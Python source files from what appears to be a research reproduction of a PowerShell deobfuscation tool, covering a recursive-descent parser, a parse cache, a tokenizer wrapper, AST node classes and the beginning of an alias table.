            raise ParseError("expected a pipeline element", len(self.source))
        if token.type is PSTokenType.COMMAND:
            return self._parse_command(invocation=None)
        if self._is_operator(token, "&", "."):
            self._next()
            return self._parse_command(
                invocation=token.content, start=token.start
            )
        if token.type in _PRIMARY_STARTERS or token.type is PSTokenType.OPERATOR:
            expression = self._parse_expression()
            return N.CommandExpressionAst(
                start=expression.start,
                end=expression.end,
                expression=expression,
            )
        if token.type in (PSTokenType.COMMAND_ARGUMENT, PSTokenType.KEYWORD):
            # Lexer classified a word mid-expression; treat it as a command
            # (e.g. `| iex` classified correctly, but `| %{...}` may vary).
            return self._parse_command(invocation=None)
        raise ParseError(
            f"cannot start pipeline element with {token.content!r}",
            token.start,
        )

    _COMMAND_NAME_TYPES = (
        PSTokenType.COMMAND,
        PSTokenType.COMMAND_ARGUMENT,
        PSTokenType.KEYWORD,
        PSTokenType.MEMBER,
    )

    def _parse_command(
        self, invocation: Optional[str], start: Optional[int] = None
    ) -> N.CommandAst:
        elements: List[N.Ast] = []
        redirections: List[str] = []
        token = self._peek()
        if token is None:
            raise ParseError("expected command name", len(self.source))
        cmd_start = start if start is not None else token.start

        # Command-name element.
        if token.type in self._COMMAND_NAME_TYPES:
            self._next()
            elements.append(
                N.StringConstantExpressionAst(
                    start=token.start,
                    end=token.end,
                    value=token.content,
                    quote="",
                )
            )
        else:
            # Computed command name after & or . : string/var/paren.
            name_expr = self._parse_argument()
            elements.append(name_expr)

        # Arguments until a statement/pipeline terminator.
        while True:
            token = self._peek_raw() if self.group_depth == 0 else self._peek()
            if token is None:
                break
            if token.type in (
                PSTokenType.NEWLINE,
                PSTokenType.STATEMENT_SEPARATOR,
                PSTokenType.GROUP_END,
            ):
                break
            if token.type is PSTokenType.OPERATOR and token.content in (
                "|", "&&", "||",
            ):
                break
            if token.type is PSTokenType.OPERATOR and token.content in (
                ">", ">>",
            ):
                self._next()
                target = self._peek()
                if target is not None and target.type in (
                    PSTokenType.COMMAND_ARGUMENT,
                    PSTokenType.STRING,
                    PSTokenType.NUMBER,
                    PSTokenType.VARIABLE,
                ):
                    self._next()
                    redirections.append(
                        token.content + " " + target.content
                    )
                else:
                    redirections.append(token.content)
                continue
            if token.type is PSTokenType.COMMAND_PARAMETER:
                self._next()
                name = token.content
                argument = None
                end = token.end
                if ":" in name[1:]:
                    # `-Param:value` may lex as a single word; split it.
                    head, _, inline = name.partition(":")
                    name = head
                    if inline:
                        offset = token.start + len(head) + 1
                        argument = N.StringConstantExpressionAst(
                            start=offset,
                            end=token.end,
                            value=inline,
                            quote="",
                        )
                    else:
                        argument = self._parse_argument()
                        end = argument.end
                elements.append(
                    N.CommandParameterAst(
                        start=token.start,
                        end=end,
                        name=name.rstrip(":"),
                        argument=argument,
                    )
                )
                continue
            elements.append(self._parse_argument())

        end = elements[-1].end if elements else cmd_start
        return N.CommandAst(
            start=cmd_start,
            end=end,
            elements=elements,
            invocation_operator=invocation,
            redirections=redirections,
        )

    def _parse_argument(self) -> N.ExpressionAst:
        """One command argument: a postfix-expression, maybe comma-joined."""
        first = self._parse_argument_single()
        token = self._peek()
        if not self._is_operator(token, ","):
            return first
        elements = [first]
        while self._is_operator(self._peek(), ","):
            self._next()
            elements.append(self._parse_argument_single())
        return N.ArrayLiteralAst(
            start=elements[0].start, end=elements[-1].end, elements=elements
        )

    def _parse_argument_single(self) -> N.ExpressionAst:
        token = self._peek()
        if token is None:
            raise ParseError("expected command argument", len(self.source))
        if token.type in (PSTokenType.COMMAND_ARGUMENT, PSTokenType.KEYWORD,
                          PSTokenType.COMMAND, PSTokenType.MEMBER):
            self._next()
            node: N.ExpressionAst = N.StringConstantExpressionAst(
                start=token.start, end=token.end, value=token.content, quote=""
            )
            return self._parse_postfix(node)
        return self._parse_unary()

    # -- expressions ---------------------------------------------------------------

    def _parse_expression(self) -> N.ExpressionAst:
        return self._parse_binary_level(0)

    _LEVELS = (_LOGICAL, _BITWISE, _COMPARISON, _ADDITIVE, _MULTIPLICATIVE,
               _FORMAT, _RANGE)

    def _parse_binary_level(self, level: int) -> N.ExpressionAst:
        if level >= len(self._LEVELS):
            return self._parse_comma_level()
        operators = self._LEVELS[level]
        left = self._parse_binary_level(level + 1)
        while True:
            token = self._peek()
            if (
                token is not None
                and token.type is PSTokenType.OPERATOR
                and token.content.lower() in operators
            ):
                self._next()
                right = self._parse_binary_level(level + 1)
                left = N.BinaryExpressionAst(
                    start=left.start,
                    end=right.end,
                    operator=token.content.lower(),
                    left=left,
                    right=right,
                )
                continue
            break
        return left

    def _parse_comma_level(self) -> N.ExpressionAst:
        token = self._peek()
        if self._is_operator(token, ","):
            # Leading comma: unary array of one element.
            self._next()
            element = self._parse_unary()
            return N.ArrayLiteralAst(
                start=token.start, end=element.end, elements=[element]
            )
        first = self._parse_unary()
        if not self._is_operator(self._peek(), ","):
            return first
        elements = [first]
        while self._is_operator(self._peek(), ","):
            self._next()
            elements.append(self._parse_unary())
        return N.ArrayLiteralAst(
            start=elements[0].start, end=elements[-1].end, elements=elements
        )

    def _parse_unary(self) -> N.ExpressionAst:
        token = self._peek()
        if token is None:
            raise ParseError("expected expression", len(self.source))
        if token.type is PSTokenType.OPERATOR and token.content.lower() in _UNARY:
            self._next()
            child = self._parse_unary()
            return N.UnaryExpressionAst(
                start=token.start,
                end=child.end,
                operator=token.content.lower(),
                child=child,
            )
        if token.type is PSTokenType.TYPE:
            self._next()
            nxt = self._peek()
            if nxt is not None and (
                nxt.type in _PRIMARY_STARTERS
                or (
                    nxt.type is PSTokenType.OPERATOR
                    and nxt.content.lower() in _UNARY
                )
            ):
                # A cast binds to the following unary expression — except
                # when the next token starts a *static member* access of
                # this very type ([Convert]::X) which postfix handles.
                if not self._is_operator(nxt, "::"):
                    child = self._parse_unary()
                    node: N.ExpressionAst = N.ConvertExpressionAst(
                        start=token.start,
                        end=child.end,
                        type_name_str=token.content,
                        child=child,
                    )
                    return self._parse_postfix(node)
            node = N.TypeExpressionAst(
                start=token.start, end=token.end, type_name_str=token.content
            )
            return self._parse_postfix(node)
        primary = self._parse_primary()
        return self._parse_postfix(primary)

    def _parse_primary(self) -> N.ExpressionAst:
        token = self._next()
        if token.type is PSTokenType.STRING:
            if token.quote in ('"', '@"'):
                return N.ExpandableStringExpressionAst(
                    start=token.start,
                    end=token.end,
                    value=token.content,
                    quote=token.quote,
                )
            return N.StringConstantExpressionAst(
                start=token.start,
                end=token.end,
                value=token.content,
                quote=token.quote or "'",
            )
        if token.type is PSTokenType.NUMBER:
            return N.ConstantExpressionAst(
                start=token.start, end=token.end, value=parse_number(token.text)
            )
        if token.type is PSTokenType.VARIABLE:
            return N.VariableExpressionAst(
                start=token.start,
                end=token.end,
                name=token.content,
                splatted=token.text.startswith("@"),
            )
        if token.type is PSTokenType.GROUP_START:
            return self._parse_group(token)
        if token.type in (PSTokenType.COMMAND_ARGUMENT, PSTokenType.KEYWORD,
                          PSTokenType.COMMAND, PSTokenType.MEMBER):
            return N.StringConstantExpressionAst(
                start=token.start, end=token.end, value=token.content, quote=""
            )
        raise ParseError(
            f"unexpected token {token.content!r} in expression", token.start
        )

    def _parse_group(self, opener: PSToken) -> N.ExpressionAst:
        if opener.content == "(":
            # Inside plain parens, newlines are soft (the pipeline may wrap).
            self.group_depth += 1
            try:
                inner = self._parse_statement()
            finally:
                self.group_depth -= 1
            closer = self._expect_group_end(")", opener.start)
            return N.ParenExpressionAst(
                start=opener.start, end=closer.end, pipeline=inner
            )
        # The remaining groups contain *statement lists*, where newlines
        # separate statements and must stay significant.
        saved_depth = self.group_depth
        self.group_depth = 0
        try:
            if opener.content == "$(":
                statements, _ = self._parse_statement_list(closer=")")
                closer = self._expect_group_end(")", opener.start)
                return N.SubExpressionAst(
                    start=opener.start, end=closer.end, statements=statements
                )
            if opener.content == "@(":
                statements, _ = self._parse_statement_list(closer=")")
                closer = self._expect_group_end(")", opener.start)
                return N.ArrayExpressionAst(
                    start=opener.start, end=closer.end, statements=statements
                )
            if opener.content == "@{":
                return self._parse_hashtable(opener)
            if opener.content == "{":
                statements, param_block = self._parse_statement_list(
                    closer="}"
                )
                closer = self._expect_group_end("}", opener.start)
                block = N.ScriptBlockAst(
                    start=opener.start,
                    end=closer.end,
                    statements=statements,
                    param_block=param_block,
                )
                return N.ScriptBlockExpressionAst(
                    start=opener.start, end=closer.end, scriptblock=block
                )
            raise ParseError(
                f"unexpected group opener {opener.content!r}", opener.start
            )
        finally:
            self.group_depth = saved_depth

    def _parse_hashtable(self, opener: PSToken) -> N.HashtableAst:
        pairs: List[Tuple[N.ExpressionAst, N.StatementAst]] = []
        while True:
            token = self._peek_raw()
            if token is None:
                raise ParseError("unterminated hashtable", opener.start)
            if token.type in (
                PSTokenType.NEWLINE,
                PSTokenType.STATEMENT_SEPARATOR,
            ):
                self.pos += 1
                continue
            if token.type is PSTokenType.GROUP_END and token.content == "}":
                break
            key = self._parse_hash_key()
            eq = self._next()
            if not self._is_operator(eq, "="):
                raise ParseError("expected '=' in hashtable", eq.start)
            value = self._parse_statement()
            pairs.append((key, value))
        closer = self._expect_group_end("}", opener.start)
        return N.HashtableAst(start=opener.start, end=closer.end, pairs=pairs)

    def _parse_hash_key(self) -> N.ExpressionAst:
        token = self._next()
        if token.type in (
            PSTokenType.MEMBER,
            PSTokenType.COMMAND_ARGUMENT,
            PSTokenType.COMMAND,
            PSTokenType.KEYWORD,
        ):
            return N.StringConstantExpressionAst(
                start=token.start, end=token.end, value=token.content, quote=""
            )
        if token.type is PSTokenType.STRING:
            return N.StringConstantExpressionAst(
                start=token.start,
                end=token.end,
                value=token.content,
                quote=token.quote,
            )
        if token.type is PSTokenType.NUMBER:
            return N.ConstantExpressionAst(
                start=token.start, end=token.end, value=parse_number(token.text)
            )
        if token.type is PSTokenType.VARIABLE:
            return N.VariableExpressionAst(
                start=token.start, end=token.end, name=token.content
            )
        raise ParseError("bad hashtable key", token.start)

    def _parse_postfix(self, node: N.ExpressionAst) -> N.ExpressionAst:
        while True:
            token = self._peek()
            if token is None:
                return node
            if self._is_operator(token, ".", "::"):
                static = token.content == "::"
                self._next()
                member = self._parse_member_name()
                nxt = self._peek()
                if (
                    nxt is not None
                    and nxt.type is PSTokenType.GROUP_START
                    and nxt.content == "("
                    and nxt.start == member.end
                ):
                    self._next()
                    self.group_depth += 1
                    arguments = self._parse_call_arguments()
                    self.group_depth -= 1
                    closer = self._expect_group_end(")", nxt.start)
                    node = N.InvokeMemberExpressionAst(
                        start=node.start,
                        end=closer.end,
                        expression=node,
                        member=member,
                        static=static,
                        arguments=arguments,
                    )
                else:
                    node = N.MemberExpressionAst(
                        start=node.start,
                        end=member.end,
                        expression=node,
                        member=member,
                        static=static,
                    )
                continue
            if (
                token.type is PSTokenType.GROUP_START
                and token.content == "["
            ):
                self._next()
                self.group_depth += 1
                index = self._parse_expression()
                self.group_depth -= 1
                closer = self._expect_group_end("]", token.start)
                node = N.IndexExpressionAst(
                    start=node.start,
                    end=closer.end,
                    target=node,
                    index=index,
                )
                continue
            if (
                token.type is PSTokenType.GROUP_START
                and token.content == "("
                and isinstance(node, N.MemberExpressionAst)
                and not isinstance(node, N.InvokeMemberExpressionAst)
                and token.start == node.end
            ):
                # Member followed by adjacent parens (after an index, etc.).
                self._next()
                self.group_depth += 1
                arguments = self._parse_call_arguments()
                self.group_depth -= 1
                closer = self._expect_group_end(")", token.start)
                node = N.InvokeMemberExpressionAst(
                    start=node.start,
                    end=closer.end,
                    expression=node.expression,
                    member=node.member,
                    static=node.static,
                    arguments=arguments,
                )
                continue
            if self._is_operator(token, "++", "--"):
                self._next()
                node = N.UnaryExpressionAst(
                    start=node.start,
                    end=token.end,
                    operator=token.content,
                    child=node,
                    postfix=True,
                )
                continue
            return node

    def _parse_member_name(self) -> N.ExpressionAst:
        token = self._next()
        if token.type in (
            PSTokenType.MEMBER,
            PSTokenType.COMMAND_ARGUMENT,
            PSTokenType.COMMAND,
            PSTokenType.KEYWORD,
            PSTokenType.NUMBER,
        ):
            return N.StringConstantExpressionAst(
                start=token.start, end=token.end, value=token.content, quote=""
            )
        if token.type is PSTokenType.STRING:
            return N.StringConstantExpressionAst(
                start=token.start,
                end=token.end,
                value=token.content,
                quote=token.quote,
            )
        if token.type is PSTokenType.VARIABLE:
            return N.VariableExpressionAst(
                start=token.start, end=token.end, name=token.content
            )
        if token.type is PSTokenType.GROUP_START and token.content == "(":
            self.group_depth += 1
            inner = self._parse_statement()
            self.group_depth -= 1
            closer = self._expect_group_end(")", token.start)
            return N.ParenExpressionAst(
                start=token.start, end=closer.end, pipeline=inner
            )
        raise ParseError("expected member name", token.start)

    def _parse_call_arguments(self) -> List[N.ExpressionAst]:
        arguments: List[N.ExpressionAst] = []
        token = self._peek()
        if (
            token is not None
            and token.type is PSTokenType.GROUP_END
            and token.content == ")"
        ):
            return arguments
        while True:
            # Arguments are full expressions, but commas separate them here
            # (not array literals), so parse below the comma level.
            arguments.append(self._parse_method_argument())
            token = self._peek()
            if self._is_operator(token, ","):
                self._next()
                continue
            return arguments

    def _parse_method_argument(self) -> N.ExpressionAst:
        """An argument inside ``f(...)`` — like an expression but commas
        delimit arguments instead of building arrays."""
        saved_levels = self._LEVELS
        left = self._parse_binary_no_comma(0)
        assert self._LEVELS is saved_levels
        return left

    def _parse_binary_no_comma(self, level: int) -> N.ExpressionAst:
        if level >= len(self._LEVELS):
            return self._parse_unary()
        operators = self._LEVELS[level]
        left = self._parse_binary_no_comma(level + 1)
        while True:
            token = self._peek()
            if (
                token is not None
                and token.type is PSTokenType.OPERATOR
                and token.content.lower() in operators
            ):
                self._next()
                right = self._parse_binary_no_comma(level + 1)
                left = N.BinaryExpressionAst(
                    start=left.start,
                    end=right.end,
                    operator=token.content.lower(),
                    left=left,
                    right=right,
                )
                continue
            break
        return left


def parse(source: str) -> N.ScriptBlockAst:
    """Parse *source* into a :class:`~repro.pslang.ast_nodes.ScriptBlockAst`.

    Raises :class:`~repro.pslang.errors.ParseError` (or
    :class:`~repro.pslang.errors.LexError`) on invalid scripts.
    """
    return Parser(source).parse()


# -- read-only parse cache ----------------------------------------------------
#
# Piece recovery parses the same small fragments over and over: every
# fixpoint iteration re-offers still-obfuscated pieces, function
# definitions are re-registered per piece evaluation, and chunked-blob
# samples repeat one decode idiom dozens of times.  A bounded LRU keyed
# by source text removes the repeat parses — but the cached AST is
# SHARED, so ``parse_cached`` is only for callers that never mutate the
# tree (the sandbox evaluator, the technique detectors).  The pipeline's
# reconstruction pass splices nodes in place and must keep using
# ``parse``.
#
# Entries are salted with the front-end id (repro.caching): the same
# source text handed to a different language front end can never replay
# this cache's PowerShell ASTs.

from repro.caching import SaltedLRUCache as _SaltedLRUCache

_PARSE_CACHE_SALT = "powershell"
_parse_cache = _SaltedLRUCache()


def parse_cached(source: str) -> N.ScriptBlockAst:
    """Like :func:`parse`, through a process-wide bounded cache.

    The returned AST is shared across callers and MUST be treated as
    read-only.  Parse errors are not cached (they re-raise each call).
    """
    return _parse_cache.get_or_build(
        _PARSE_CACHE_SALT, source, lambda text: Parser(text).parse()
    )


def try_parse_cached(source: str):
    """Like :func:`try_parse`, through the shared read-only cache.

    Same contract as :func:`parse_cached`: callers must not mutate the
    returned AST.
    """
    from repro.pslang.errors import PSSyntaxError

    try:
        return parse_cached(source), None
    except PSSyntaxError as exc:
        return None, str(exc)
    except RecursionError as exc:  # pragma: no cover - defensive
        return None, f"recursion: {exc}"


def try_parse(source: str):
    """Parse, returning ``(ast, None)`` or ``(None, error_message)``."""
    from repro.pslang.errors import PSSyntaxError

    try:
        return parse(source), None
    except PSSyntaxError as exc:
        return None, str(exc)
    except RecursionError as exc:  # pragma: no cover - defensive
        return None, f"recursion: {exc}"
