"""Flat ``PSParser.Tokenize``-style interface over the lexer.

The paper's token-parsing phase (Section III-A) consumes the token list the
way PowerShell's ``System.Management.Automation.PSParser.Tokenize`` exposes
it.  :func:`tokenize` is that entry point.
"""

from typing import List, Optional, Tuple

from repro.pslang.errors import PSSyntaxError
from repro.pslang.lexer import Lexer
from repro.pslang.tokens import PSToken, PSTokenType


def tokenize(source: str) -> List[PSToken]:
    """Tokenize *source* into a flat :class:`PSToken` list.

    Raises :class:`~repro.pslang.errors.LexError` on unterminated
    constructs, mirroring how ``PSParser.Tokenize`` reports errors.
    """
    return Lexer(source).tokenize()


def try_tokenize(source: str) -> Tuple[Optional[List[PSToken]], Optional[str]]:
    """Tokenize, returning ``(tokens, None)`` or ``(None, error_message)``.

    Used by dataset preprocessing, which must not crash on wild samples.
    """
    try:
        return tokenize(source), None
    except PSSyntaxError as exc:
        return None, str(exc)
    except RecursionError as exc:  # pragma: no cover - defensive
        return None, f"recursion: {exc}"


def significant_tokens(tokens: List[PSToken]) -> List[PSToken]:
    """Drop comments, newlines and line continuations."""
    skip = {
        PSTokenType.COMMENT,
        PSTokenType.NEWLINE,
        PSTokenType.LINE_CONTINUATION,
    }
    return [token for token in tokens if token.type not in skip]
