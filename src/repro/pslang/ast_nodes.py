"""AST node hierarchy mirroring ``System.Management.Automation.Language``.

Every node carries a byte-precise *extent* (``start``/``end`` offsets into
the source script).  The paper's reconstruction phase (Section III-B5)
rewrites scripts by replacing node extents in place; precise extents are
what make that semantics-preserving.

Node naming follows the real PowerShell AST type names so that the paper's
algorithms read one-to-one: ``PipelineAst``, ``BinaryExpressionAst``,
``InvokeMemberExpressionAst`` and so on.
"""

from dataclasses import dataclass, field
from typing import Iterator, List, Optional, Sequence, Tuple, Union


@dataclass(slots=True)
class Ast:
    """Base class: an extent plus tree structure."""

    start: int
    end: int

    # Parent links are filled in by the parser via ``link_parents``.
    parent: Optional["Ast"] = field(
        default=None, init=False, repr=False, compare=False
    )

    @property
    def type_name(self) -> str:
        """The PowerShell-style node type name, e.g. ``PipelineAst``."""
        return type(self).__name__

    def children(self) -> Iterator["Ast"]:
        """Direct children in source order (any iterable of nodes)."""
        return ()

    def text(self, source: str) -> str:
        """The raw source slice this node covers."""
        return source[self.start:self.end]

    # -- traversal ---------------------------------------------------------
    #
    # Both walks are iterative: the recursive-generator versions spent
    # most of their time resuming nested ``yield from`` frames (one per
    # ancestor per node), which profiling showed near the top of the
    # pipeline's self-time.

    def walk_post_order(self) -> Iterator["Ast"]:
        """Yield all nodes, children before parents (Algorithm 1's order)."""
        # Reverse of a right-to-left pre-order is a left-to-right
        # post-order; one list + one reversal, no per-node generators.
        order: List["Ast"] = []
        stack: List["Ast"] = [self]
        while stack:
            node = stack.pop()
            order.append(node)
            stack.extend(node.children())
        return reversed(order)

    def walk_pre_order(self) -> Iterator["Ast"]:
        stack: List["Ast"] = [self]
        while stack:
            node = stack.pop()
            yield node
            kids = node.children()
            if not isinstance(kids, (list, tuple)):
                kids = list(kids)
            if kids:
                stack.extend(reversed(kids))

    def find_all(self, node_type) -> List["Ast"]:
        """All descendants (including self) of the given node class."""
        return [n for n in self.walk_pre_order() if isinstance(n, node_type)]


def link_parents(root: Ast) -> None:
    """Populate ``parent`` pointers below *root*."""
    stack: List[Ast] = [root]
    while stack:
        node = stack.pop()
        for child in node.children():
            child.parent = node
            stack.append(child)


def _iter(*groups) -> List[Ast]:
    """Collect child groups (single nodes or sequences) into one list."""
    out: List[Ast] = []
    for group in groups:
        if group is None:
            continue
        if isinstance(group, Ast):
            out.append(group)
        else:
            for item in group:
                if item is not None:
                    out.append(item)
    return out


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------


@dataclass(slots=True)
class ExpressionAst(Ast):
    pass


@dataclass(slots=True)
class StringConstantExpressionAst(ExpressionAst):
    """A literal string: single-quoted, here-string single, or bareword."""

    value: str = ""
    # "'" single, "@'" here-single, "" bareword.
    quote: str = ""


@dataclass(slots=True)
class ExpandableStringExpressionAst(ExpressionAst):
    """A double-quoted (or double here-) string, possibly with ``$`` refs.

    ``value`` is the cooked text with backtick escapes already processed but
    ``$variable`` / ``$( ... )`` references left verbatim, matching
    ``PSToken.Content`` for string tokens.
    """

    value: str = ""
    quote: str = '"'


@dataclass(slots=True)
class ConstantExpressionAst(ExpressionAst):
    """Numeric (or other primitive) constant with its Python value."""

    value: object = None


@dataclass(slots=True)
class VariableExpressionAst(ExpressionAst):
    """``$name``, ``${braced}``, ``$env:name`` — name excludes the sigil."""

    name: str = ""
    splatted: bool = False


@dataclass(slots=True)
class TypeExpressionAst(ExpressionAst):
    """A bare type literal like ``[char]``."""

    type_name_str: str = ""


@dataclass(slots=True)
class ConvertExpressionAst(ExpressionAst):
    """A cast: ``[char]0x74``, ``[string][char]39``."""

    type_name_str: str = ""
    child: Optional[ExpressionAst] = None

    def children(self):
        return _iter(self.child)


@dataclass(slots=True)
class UnaryExpressionAst(ExpressionAst):
    """Prefix/postfix unary operator: ``-join``, ``-not``, ``-``, ``++``."""

    operator: str = ""
    child: Optional[ExpressionAst] = None
    postfix: bool = False

    def children(self):
        return _iter(self.child)


@dataclass(slots=True)
class BinaryExpressionAst(ExpressionAst):
    operator: str = ""
    left: Optional[ExpressionAst] = None
    right: Optional[ExpressionAst] = None

    def children(self):
        return _iter(self.left, self.right)


@dataclass(slots=True)
class ArrayLiteralAst(ExpressionAst):
    """Comma-separated list: ``1,2,3``."""

    elements: List[ExpressionAst] = field(default_factory=list)

    def children(self):
        return _iter(self.elements)


@dataclass(slots=True)
class MemberExpressionAst(ExpressionAst):
    """``expr.Member`` or ``[Type]::Member`` (``static=True`` for ``::``)."""

    expression: Optional[ExpressionAst] = None
    member: Optional[ExpressionAst] = None  # usually StringConstant
    static: bool = False

    def children(self):
        return _iter(self.expression, self.member)


@dataclass(slots=True)
class InvokeMemberExpressionAst(MemberExpressionAst):
    """Method call: ``expr.Member(args...)`` / ``[Type]::Member(args...)``."""

    arguments: List[ExpressionAst] = field(default_factory=list)

    def children(self):
        return _iter(self.expression, self.member, self.arguments)


@dataclass(slots=True)
class IndexExpressionAst(ExpressionAst):
    target: Optional[ExpressionAst] = None
    index: Optional[ExpressionAst] = None

    def children(self):
        return _iter(self.target, self.index)


@dataclass(slots=True)
class ParenExpressionAst(ExpressionAst):
    """``( pipeline )``."""

    pipeline: Optional["StatementAst"] = None

    def children(self):
        return _iter(self.pipeline)


@dataclass(slots=True)
class SubExpressionAst(ExpressionAst):
    """``$( statements )``."""

    statements: List["StatementAst"] = field(default_factory=list)

    def children(self):
        return _iter(self.statements)


@dataclass(slots=True)
class ArrayExpressionAst(ExpressionAst):
    """``@( statements )``."""

    statements: List["StatementAst"] = field(default_factory=list)

    def children(self):
        return _iter(self.statements)


@dataclass(slots=True)
class HashtableAst(ExpressionAst):
    pairs: List[Tuple[ExpressionAst, "StatementAst"]] = field(
        default_factory=list
    )

    def children(self):
        for key, value in self.pairs:
            yield key
            yield value


@dataclass(slots=True)
class ScriptBlockExpressionAst(ExpressionAst):
    """``{ ... }`` used as a value."""

    scriptblock: Optional["ScriptBlockAst"] = None

    def children(self):
        return _iter(self.scriptblock)


# ---------------------------------------------------------------------------
# Statements
# ---------------------------------------------------------------------------


@dataclass(slots=True)
class StatementAst(Ast):
    pass


@dataclass(slots=True)
class PipelineAst(StatementAst):
    """``cmd1 | cmd2 | ...`` — elements are commands or expressions."""

    elements: List[Ast] = field(default_factory=list)

    def children(self):
        return _iter(self.elements)


@dataclass(slots=True)
class CommandAst(Ast):
    """One command invocation inside a pipeline.

    ``elements[0]`` is the command-name element; the rest are parameters
    and arguments.  ``invocation_operator`` is ``"&"``, ``"."`` or ``None``.
    """

    elements: List[Ast] = field(default_factory=list)
    invocation_operator: Optional[str] = None
    redirections: List[str] = field(default_factory=list)

    def children(self):
        return _iter(self.elements)

    def command_name(self, source: str) -> Optional[str]:
        """The literal command name, if statically known."""
        if not self.elements:
            return None
        head = self.elements[0]
        if isinstance(head, StringConstantExpressionAst):
            return head.value
        return None


@dataclass(slots=True)
class CommandParameterAst(Ast):
    """``-Name`` or ``-Name:arg`` appearing in a command."""

    name: str = ""
    argument: Optional[ExpressionAst] = None

    def children(self):
        return _iter(self.argument)


@dataclass(slots=True)
class CommandExpressionAst(Ast):
    """A pipeline element that is a bare expression."""

    expression: Optional[ExpressionAst] = None

    def children(self):
        return _iter(self.expression)


@dataclass(slots=True)
class AssignmentStatementAst(StatementAst):
    left: Optional[ExpressionAst] = None
    operator: str = "="
    right: Optional[StatementAst] = None

    def children(self):
        return _iter(self.left, self.right)


@dataclass(slots=True)
class StatementBlockAst(Ast):
    """``{ statements }`` in control flow."""

    statements: List[StatementAst] = field(default_factory=list)

    def children(self):
        return _iter(self.statements)


@dataclass(slots=True)
class IfStatementAst(StatementAst):
    """``if``/``elseif`` clauses plus optional ``else``."""

    clauses: List[Tuple[StatementAst, StatementBlockAst]] = field(
        default_factory=list
    )
    else_body: Optional[StatementBlockAst] = None

    def children(self):
        for cond, body in self.clauses:
            yield cond
            yield body
        if self.else_body is not None:
            yield self.else_body


@dataclass(slots=True)
class WhileStatementAst(StatementAst):
    condition: Optional[StatementAst] = None
    body: Optional[StatementBlockAst] = None

    def children(self):
        return _iter(self.condition, self.body)


@dataclass(slots=True)
class DoWhileStatementAst(StatementAst):
    body: Optional[StatementBlockAst] = None
    condition: Optional[StatementAst] = None
    until: bool = False

    def children(self):
        return _iter(self.body, self.condition)


@dataclass(slots=True)
class ForStatementAst(StatementAst):
    initializer: Optional[StatementAst] = None
    condition: Optional[StatementAst] = None
    iterator: Optional[StatementAst] = None
    body: Optional[StatementBlockAst] = None

    def children(self):
        return _iter(self.initializer, self.condition, self.iterator, self.body)


@dataclass(slots=True)
class ForEachStatementAst(StatementAst):
    variable: Optional[VariableExpressionAst] = None
    expression: Optional[StatementAst] = None
    body: Optional[StatementBlockAst] = None

    def children(self):
        return _iter(self.variable, self.expression, self.body)


@dataclass(slots=True)
class SwitchStatementAst(StatementAst):
    condition: Optional[StatementAst] = None
    clauses: List[Tuple[Ast, StatementBlockAst]] = field(default_factory=list)
    default: Optional[StatementBlockAst] = None

    def children(self):
        if self.condition is not None:
            yield self.condition
        for test, body in self.clauses:
            yield test
            yield body
        if self.default is not None:
            yield self.default


@dataclass(slots=True)
class TryStatementAst(StatementAst):
    body: Optional[StatementBlockAst] = None
    catches: List[StatementBlockAst] = field(default_factory=list)
    finally_body: Optional[StatementBlockAst] = None

    def children(self):
        return _iter(self.body, self.catches, self.finally_body)


@dataclass(slots=True)
class FunctionDefinitionAst(StatementAst):
    name: str = ""
    parameters: List["ParameterAst"] = field(default_factory=list)
    body: Optional["ScriptBlockAst"] = None
    is_filter: bool = False

    def children(self):
        return _iter(self.parameters, self.body)


@dataclass(slots=True)
class ParameterAst(Ast):
    variable: Optional[VariableExpressionAst] = None
    default: Optional[ExpressionAst] = None

    def children(self):
        return _iter(self.variable, self.default)


@dataclass(slots=True)
class ParamBlockAst(Ast):
    parameters: List[ParameterAst] = field(default_factory=list)

    def children(self):
        return _iter(self.parameters)


@dataclass(slots=True)
class ReturnStatementAst(StatementAst):
    pipeline: Optional[StatementAst] = None

    def children(self):
        return _iter(self.pipeline)


@dataclass(slots=True)
class ThrowStatementAst(StatementAst):
    pipeline: Optional[StatementAst] = None

    def children(self):
        return _iter(self.pipeline)


@dataclass(slots=True)
class ExitStatementAst(StatementAst):
    pipeline: Optional[StatementAst] = None

    def children(self):
        return _iter(self.pipeline)


@dataclass(slots=True)
class BreakStatementAst(StatementAst):
    label: Optional[str] = None


@dataclass(slots=True)
class ContinueStatementAst(StatementAst):
    label: Optional[str] = None


@dataclass(slots=True)
class NamedBlockAst(Ast):
    """``begin { }`` / ``process { }`` / ``end { }`` block."""

    block_name: str = "end"
    statements: List[StatementAst] = field(default_factory=list)

    def children(self):
        return _iter(self.statements)


@dataclass(slots=True)
class ScriptBlockAst(Ast):
    """Root of a parsed script or of a ``{ ... }`` literal."""

    statements: List[StatementAst] = field(default_factory=list)
    param_block: Optional[ParamBlockAst] = None
    named_blocks: List[NamedBlockAst] = field(default_factory=list)
    # Only the top-level script block carries the source text.
    source: str = field(default="", repr=False, compare=False)

    def children(self):
        return _iter(self.param_block, self.named_blocks, self.statements)


# Node classes whose content "often can get results in string form after
# execution" — the paper's *recoverable nodes* (Section III-B1).
RECOVERABLE_NODE_TYPES = (
    PipelineAst,
    UnaryExpressionAst,
    BinaryExpressionAst,
    ConvertExpressionAst,
    InvokeMemberExpressionAst,
    SubExpressionAst,
)

AstNode = Ast
Statement = Union[StatementAst, PipelineAst]
Expression = ExpressionAst
Extent = Tuple[int, int]
AstSequence = Sequence[Ast]
