"""PowerShell alias table and canonical cmdlet casing.

The token-parsing phase (paper Section III-A, Fig 3) replaces alias tokens
(``IeX``) with their full cmdlet names (``Invoke-Expression``) and fixes
random case using the canonical spelling.  The table below is the default
alias set of Windows PowerShell 5.1, which is what wild samples target.
"""

from typing import Dict, Optional

# alias (lowercase) -> canonical command name.
ALIASES: Dict[str, str] = {
    "%": "ForEach-Object",
    "?": "Where-Object",
    "ac": "Add-Content",
    "cat": "Get-Content",
    "cd": "Set-Location",
    "chdir": "Set-Location",
    "clc": "Clear-Content",
    "clhy": "Clear-History",
    "cli": "Clear-Item",
    "clp": "Clear-ItemProperty",
    "cls": "Clear-Host",
    "clear": "Clear-Host",
    "clv": "Clear-Variable",
    "compare": "Compare-Object",
    "copy": "Copy-Item",
    "cp": "Copy-Item",
    "cpi": "Copy-Item",
    "curl": "Invoke-WebRequest",
    "del": "Remove-Item",
    "diff": "Compare-Object",
    "dir": "Get-ChildItem",
    "echo": "Write-Output",
    "erase": "Remove-Item",
    "fc": "Format-Custom",
    "fl": "Format-List",
    "foreach": "ForEach-Object",
    "ft": "Format-Table",
    "fw": "Format-Wide",
    "gal": "Get-Alias",
    "gc": "Get-Content",
